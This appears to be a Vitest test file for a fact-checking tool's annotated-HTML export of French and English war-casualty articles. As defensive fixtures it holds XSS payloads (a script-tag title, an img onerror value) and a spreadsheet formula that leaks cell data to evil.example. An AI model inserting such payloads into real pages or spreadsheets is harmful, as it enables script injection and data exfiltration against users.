import { Window } from "happy-dom";
import { describe, expect, it } from "vitest";
import { englishInput } from "./__fixtures__/english-article";
import {
  claimKremlin,
  claimLosses,
  claimNeutralised,
  figureLosses,
  figureUkrainians,
  frenchInput,
  orphanClaim,
  sourceLondon,
} from "./__fixtures__/french-article";
import { escapeHtml } from "./escape-html";
import { safeUrl } from "./safe-url";
import { toAnnotatedHtml } from "./to-annotated-html";
import type { ExportInput } from "./types";

const HOSTILE_TITLE = '🇷🇺 <script>alert("title")</script> Pertes & « bilans »';
const hostile: ExportInput = {
  ...frenchInput,
  article: { ...frenchInput.article, title: HOSTILE_TITLE },
  options: { ...frenchInput.options, includeNotes: true },
};

function parse(html: string) {
  const window = new Window();
  const document = new window.DOMParser().parseFromString(html, "text/html");
  return document;
}

const html = toAnnotatedHtml(frenchInput);
const doc = parse(html);
const marksOf = (number: number) => Array.from(doc.querySelectorAll(`mark[data-note="${number}"]`));
const noteNumber = (id: string) => {
  const ref = doc.querySelector(`a[href="#annotation-${id}"]`);
  return Number(ref?.textContent?.replace(/\D/g, ""));
};

describe("escapeHtml", () => {
  it("escapes the five characters that matter in text and attributes", () => {
    expect(escapeHtml(`<script>alert("x")</script> & 'y'`)).toBe(
      "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;y&#39;",
    );
  });
});

describe("annotated HTML export", () => {
  it("escapes every piece of text: a title, a rationale and a note with <script> stay text", () => {
    const out = toAnnotatedHtml(hostile);
    expect(out).not.toMatch(/<script/i);
    const page = parse(out);
    expect(page.querySelector("h1")?.textContent).toBe(HOSTILE_TITLE);
    expect(page.querySelector("title")?.textContent).toContain(HOSTILE_TITLE);
    const finding = page.getElementById(`annotation-${claimKremlin.id}`);
    expect(finding?.textContent).toContain('<script>alert("rationale")</script>');
    expect(finding?.textContent).toContain('=HYPERLINK("https://evil.example/?leak="&A1;"clic")');
    expect(page.querySelectorAll("script, img, iframe, object, embed")).toHaveLength(0);
  });

  it("loads nothing from outside and links only to the article and its evidence", () => {
    const out = toAnnotatedHtml(hostile);
    // A src attribute inside any tag (the hostile evidence title shows "src=" as text only).
    expect(out).not.toMatch(/<[^>]*\ssrc=/i);
    expect(out).not.toMatch(/<link\b|@import|url\(/i);
    const allowed = new Set<string>([
      frenchInput.article.url ?? "",
      "https://www.gov.uk/government/news/defence-intelligence-update", // a link in the article text
      ...frenchInput.annotations.flatMap((a) => a.evidence.map((e) => safeUrl(e.url) ?? "")),
    ]);
    const page = parse(out);
    expect(page.querySelectorAll("[src]")).toHaveLength(0);
    for (const a of Array.from(page.querySelectorAll("[href]"))) {
      const href = a.getAttribute("href") ?? "";
      if (href.startsWith("#")) expect(page.getElementById(decodeURIComponent(href.slice(1))), href).not.toBeNull();
      else {
        expect(allowed.has(href), href).toBe(true);
        expect(a.getAttribute("rel")).toContain("noopener");
      }
    }
    expect(out).not.toContain('href="javascript:');
    expect(page.querySelector(".bad-url")?.textContent).toBe("<img src=x onerror=alert(1)>");
  });

  it("keeps unsafe links of the article text as plain words", () => {
    const page = parse(toAnnotatedHtml(englishInput));
    const paragraphs = Array.from(page.querySelectorAll("article p"));
    const last = paragraphs[paragraphs.length - 1];
    expect(last.textContent).toBe("Read the full briefing and the leaked memo.");
    expect(Array.from(last.querySelectorAll("a")).map((a) => a.getAttribute("href"))).toEqual(["https://www.gov.uk/government/news/briefing"]);
  });

  it("never shows the internal note unless asked, and never the comments", () => {
    expect(html).not.toContain("ne pas publier");
    expect(html).not.toContain("HYPERLINK");
    expect(html).not.toContain("Note interne");
    const withNotes = toAnnotatedHtml({ ...frenchInput, options: { ...frenchInput.options, includeNotes: true } });
    expect(withNotes).toContain("Demander à Londres la méthode de comptage — ne pas publier.");
    expect(withNotes).not.toContain("réponse attendue lundi");
  });

  it("highlights each annotated span exactly, across marks, emoji and overlaps", () => {
    for (const a of [claimLosses, figureLosses, sourceLondon, claimNeutralised, figureUkrainians, claimKremlin]) {
      const text = marksOf(noteNumber(a.id))
        .map((m) => m.textContent)
        .join("");
      expect(text, a.target.exact).toBe(a.target.exact);
    }
  });

  it("nests a highlight inside the one that contains it and splits overlapping ones", () => {
    const figure = marksOf(noteNumber(figureLosses.id));
    expect(figure).toHaveLength(1);
    expect(figure[0].parentElement?.getAttribute("data-note")).toBe(String(noteNumber(claimLosses.id)));
    const shared = marksOf(noteNumber(figureUkrainians.id))[0];
    expect(shared.textContent).toBe("15\u202f902 soldats");
    expect(shared.parentElement?.getAttribute("data-note")).toBe(String(noteNumber(claimNeutralised.id)));
  });

  it("follows each highlight with a reference to its footnote and back", () => {
    const ref = doc.getElementById(`ref-${figureLosses.id}`);
    expect(ref?.getAttribute("href")).toBe(`#annotation-${figureLosses.id}`);
    const note = doc.getElementById(`annotation-${figureLosses.id}`);
    expect(note?.querySelector(".back a")?.getAttribute("href")).toBe(`#ref-${figureLosses.id}`);
    expect(note?.textContent).toContain("Trompeur");
    expect(note?.textContent).toContain("280.000 désigne les pertes");
    expect(note?.textContent).toContain("Attribué à\u00a0: [3] «\u00a0selon les services britanniques\u00a0»");
    expect(doc.getElementById(`annotation-${claimLosses.id}`)?.textContent).toContain("Validé par Karim Benali le 3 mars 2025");
  });

  it("has a legend that names each kind and its pattern, not colour alone", () => {
    const legend = doc.querySelector(".legend")?.textContent ?? "";
    for (const words of ["Affirmation", "Chiffre", "Source", "trait plein", "double trait", "pointillés"]) expect(legend).toContain(words);
  });

  it("has a claims table with every claim and figure", () => {
    const rows = Array.from(doc.querySelectorAll(".claims tbody tr"));
    expect(rows).toHaveLength(8);
    expect(rows[0].textContent).toContain("Plutôt exact");
    expect(rows.map((r) => r.querySelector("td:nth-child(2)")?.textContent)).not.toContain("Source");
  });

  it("lists the orphan in the detached section, not in the text", () => {
    const detached = doc.querySelector(".detached");
    expect(detached?.textContent).toContain(orphanClaim.target.exact);
    expect(doc.querySelector("article")?.textContent).not.toContain(orphanClaim.target.exact);
    expect(detached?.querySelector(`#annotation-${orphanClaim.id} .back`)).toBeNull();
  });

  it("renders the article's structure and speaks its language", () => {
    expect(doc.documentElement.getAttribute("lang")).toBe("fr");
    expect(doc.querySelector("article h3")?.textContent).toBe("Des pertes difficiles à vérifier");
    expect(doc.querySelectorAll("article ul > li")).toHaveLength(2);
    expect(doc.querySelector("article blockquote")?.textContent).toContain("Nous ne publierons pas nos pertes");
    expect(doc.querySelector("article strong")?.textContent).toBe("280.000 soldats");
    expect(doc.querySelector("article em")?.textContent).toBe("cité par l’agence TASS");
    expect(doc.querySelectorAll("article br")).toHaveLength(1);
    expect(html).toContain("@media print");
    const english = parse(toAnnotatedHtml(englishInput));
    expect(english.documentElement.getAttribute("lang")).toBe("en");
    expect(english.querySelector("article ol")?.getAttribute("start")).toBe("3");
    expect(english.querySelector(".legend")?.textContent).toContain("Claim");
    expect(english.querySelector(".findings")?.textContent).toContain("Signed off by Karim Benali on 4 March 2025");
  });
});
